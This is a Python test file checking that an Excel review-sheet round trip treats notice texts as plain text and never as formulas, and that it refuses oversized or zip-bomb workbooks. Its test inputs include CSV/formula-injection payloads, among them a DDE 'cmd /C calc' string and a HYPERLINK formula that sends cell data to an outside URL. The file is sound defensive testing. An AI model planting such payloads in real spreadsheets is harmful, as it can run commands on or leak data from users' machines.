"""Hostile texts and workbooks against the Excel review round trip.

Texts from notices are data, never code: exported as text cells whatever their
first character (= + - @, tabs, control characters, very long strings), read
back exactly, and an unedited sheet imports as no correction.  Workbooks to
import are bounded in size and rows.  (hypothesis is not installed: the texts
are generated from a fixed seed, hundreds per run.)
"""

from __future__ import annotations

import random
import re
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from store_schemes import build_scheme, write_notice

from schemes import review_sheet
from schemes.cells import MAX_CELL_CHARS, cell_form
from schemes.review_sheet import SheetError, SheetMeta, export_review, import_review, read_review_sheet
from schemes.store import Store

LEADS = ["=", "+", "-", "@", "\t", "\r", "\n", " ", "'", "=HYPERLINK(\"http://x?q=\"&A1,\"click\")", "=cmd|' /C calc'!A0",
         "_x0041_", "_x005F_x0041_", "\x00", "\x01", "\x1b", "\x7f", "\ufffe", "＝", "😀"]
ALPHABET = ["=", "+", "-", "@", "\t", "\r", "\n", " ", "_", "x", "0", "A", "F", "\x00", "\x08", "\x0b", "\x1f", "考",
            "核", "、", "/", "\\", "<", ">", "&", "\"", "'", "%", "𠀀", "😀", "\u200b"]


def generated(seed: int, n: int) -> list[str]:
    rnd = random.Random(seed)
    out = []
    for _ in range(n):
        body = "".join(rnd.choice(ALPHABET) for _ in range(rnd.randint(0, 40)))
        out.append(rnd.choice(LEADS) + body)
    return out


LONG = ["=" + "长" * 40_000, "=SUM(A1:A9)" + "_x0001_" * 6_000, "\x01" * 9_000]


def hostile_scheme(texts: list[str]):
    scheme = build_scheme()
    items = []
    for n, item in enumerate(scheme.items):
        t = texts[n % len(texts)]
        items.append(item.model_copy(update={"text": t, "criteria": texts[(n + 1) % len(texts)],
                                             "departments": [texts[(n + 2) % len(texts)], "宣教部"],
                                             "code": texts[(n + 3) % len(texts)] or None}))
    cats = [c.model_copy(update={"name": texts[(k + 4) % len(texts)] + f"#{k}"}) for k, c in enumerate(scheme.categories)]
    meta = scheme.metadata.model_copy(update={"title": texts[5 % len(texts)]})
    return scheme.model_copy(update={"items": items, "categories": cats, "metadata": meta})


@pytest.fixture
def home(tmp_path):
    return tmp_path / "home"


def round_trip(home, tmp_path, scheme):
    with Store.open(home=home) as store:
        store.ingest(write_notice(tmp_path, "n.pdf"), scheme, "x-1", author="bot")
        stored = store.get(1).scheme
        path = tmp_path / "review.xlsx"
        export_review(store, "1", path)
        result = import_review(store, path, author="li")
        return stored, path, result, store.revision(1)


@pytest.mark.parametrize("seed", range(8))
def test_an_unedited_sheet_of_hostile_texts_records_no_correction(home, tmp_path, seed):
    stored, path, result, revision = round_trip(home, tmp_path, hostile_scheme(generated(seed, 40)))
    assert result.changes == [] and revision == 1


@pytest.mark.parametrize("seed", range(4))
def test_every_text_reads_back_exactly(home, tmp_path, seed):
    stored, path, _, _ = round_trip(home, tmp_path, hostile_scheme(generated(100 + seed, 40)))
    sheet = read_review_sheet(path)
    for row, item in zip(sheet.items, stored.items):
        assert row.cells["text"] == (cell_form(item.text) or None)
        assert row.cells["criteria"] == (cell_form(item.criteria) or None)
    assert [r.cells["name"] for r in sheet.categories] == [c.name for c in stored.categories]


def test_very_long_texts_are_cut_to_fit_a_cell_and_still_import_as_unchanged(home, tmp_path):
    stored, path, result, revision = round_trip(home, tmp_path, hostile_scheme(LONG))
    assert result.changes == [] and revision == 1
    sheet = read_review_sheet(path)
    assert all(len(r.cells["text"]) <= MAX_CELL_CHARS for r in sheet.items)
    assert sheet.items[0].cells["text"].endswith("…") and sheet.items[0].cells["text"].startswith("=长长")


def test_no_cell_of_the_workbook_is_a_formula(home, tmp_path):
    _, path, _, _ = round_trip(home, tmp_path, hostile_scheme(generated(7, 60) + LONG))
    with zipfile.ZipFile(path) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
        assert len(sheets) == 3
        for name in sheets:
            xml = zf.read(name).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml
            assert not re.search(r'<c [^>]*t="str"', xml)  # formula results; text is inlineStr
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)


def test_an_edited_hostile_text_is_stored_as_the_text(home, tmp_path):
    with Store.open(home=home) as store:
        store.ingest(write_notice(tmp_path, "n.pdf"), build_scheme(), "x-1", author="bot")
        path = tmp_path / "review.xlsx"
        export_review(store, "1", path)
        wb = load_workbook(path)
        ws = wb["items"]
        col = [c.value for c in ws[1]].index("text") + 1
        cell = ws.cell(row=2, column=col)
        cell.value, cell.data_type = "=1+1 and @sum", "s"
        wb.save(path)
        result = import_review(store, path, author="li")
        assert result.changes == ["item 1.1: text → =1+1 and @sum"]
        assert store.get(1).scheme.item("1.1").text == "=1+1 and @sum"


# --------------------------------------------------------------------------- bounded workbooks


def test_a_sheet_with_too_many_rows_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(review_sheet, "MAX_SHEET_ROWS", 50)
    wb = review_sheet.build_workbook(build_scheme(), SheetMeta(1, 1, 1))
    for n in range(60):
        wb["items"].append([f"x{n}", None, "1", str(n), "多余的行", 1])
    path = tmp_path / "big.xlsx"
    wb.save(path)
    with pytest.raises(SheetError, match=r"big.xlsx: sheet 'items' has more than 50 rows \(KAOHE_MAX_REVIEW_SHEET_ROWS\)"):
        read_review_sheet(path)


def test_a_workbook_too_large_on_disk_is_refused_before_parsing(tmp_path, monkeypatch):
    monkeypatch.setattr(review_sheet, "MAX_SHEET_MB", 0.01)
    path = tmp_path / "large.xlsx"
    wb = Workbook()
    wb.active.append([random.Random(1).randbytes(30_000).hex()])
    wb.save(path)
    with pytest.raises(SheetError, match=r"large.xlsx: the workbook is 0.0 MB, more than a review sheet may be "
                                         r"\(0.01 MB; KAOHE_MAX_REVIEW_SHEET_MB\)"):
        read_review_sheet(path)


def test_a_workbook_expanding_too_far_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(review_sheet, "MAX_SHEET_UNZIPPED_MB", 1)
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("xl/worksheets/sheet1.xml", b"<a/>" + b" " * 3_000_000)
    with pytest.raises(SheetError, match=r"bomb.xlsx: the workbook expands to more than 1 MB"):
        read_review_sheet(path)


def test_not_a_workbook(tmp_path):
    with pytest.raises(SheetError, match="not a readable .xlsx workbook"):
        read_review_sheet(write_notice(tmp_path, "x.xlsx", "PK not really"))
